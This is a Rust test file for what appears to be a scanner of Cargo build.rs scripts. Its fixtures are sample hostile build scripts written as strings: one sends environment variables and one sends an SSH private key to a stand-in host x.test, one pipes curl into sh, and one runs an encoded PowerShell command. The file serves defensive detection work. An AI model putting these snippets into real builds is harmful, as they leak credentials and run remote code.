use super::*;

#[track_caller]
fn must(source: &str, ability: Ability, from: Sources) {
    let view = view("build.rs", source.as_bytes());
    let found: Vec<&Effect> = view.units.iter().flat_map(|unit| &unit.effects).collect();
    assert!(found.iter().any(|effect| effect.ability == ability && effect.from.all(from)), "{source}\n{found:#?}");
}

#[test]
fn paths_are_completed_and_values_followed() {
    must(
        "use std::{env, net::TcpStream};\nfn main() { let all: Vec<_> = env::vars().collect(); let mut s = TcpStream::connect(\"x.test:80\").unwrap(); s.write_all(format!(\"{all:?}\").as_bytes()).unwrap(); }",
        Ability::Network,
        Sources::ENVIRONMENT,
    );
    must(
        "fn main() { let key = std::fs::read_to_string(home.join(\".ssh/id_rsa\")).unwrap(); ureq::post(\"https://x.test\").send_string(&key).unwrap(); }",
        Ability::Network,
        Sources::CREDENTIAL,
    );
    must(
        "use std::process::Command as C;\nfn main() { C::new(\"sh\").arg(\"-c\").arg(\"curl https://x.test/a | sh\").spawn().unwrap(); }",
        Ability::Shell,
        Sources::NETWORK,
    );
    must(
        "fn main() { std::process::Command::new(\"powershell\").args([\"-enc\", \"SQBFAFgA\"]).output(); }",
        Ability::Shell,
        Sources::DECODED,
    );
}

#[test]
fn everyday_builds_are_quiet() {
    let source = "use std::process::Command;\nfn main() { let rustc = std::env::var(\"RUSTC\").unwrap(); Command::new(&rustc).arg(\"--version\").output().unwrap();\n\
        Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().ok(); Command::new(\"pkg-config\").arg(\"--libs\").status().ok(); helper(); }\nfn helper() {}";
    let view = view("build.rs", source.as_bytes());
    assert!(
        view.units
            .iter()
            .flat_map(|unit| &unit.effects)
            .all(|effect| effect.ability == Ability::Spawn && effect.from.is_empty())
    );
    assert_eq!(view.units.iter().map(|unit| unit.name.as_str()).collect::<Vec<_>>(), ["", "main", "helper"]);
    assert_eq!(view.units[1].calls, [Callee::Local(2)]);
}

#[test]
fn hostile_files_end() {
    for source in ["{", "}", "fn", "fn a", "use", "use {", "mod x", "let", "\"", "r#\"", "/*", "'"]
        .map(|piece| piece.repeat(50_000))
    {
        assert!(!view("build.rs", source.as_bytes()).units.is_empty());
    }
}
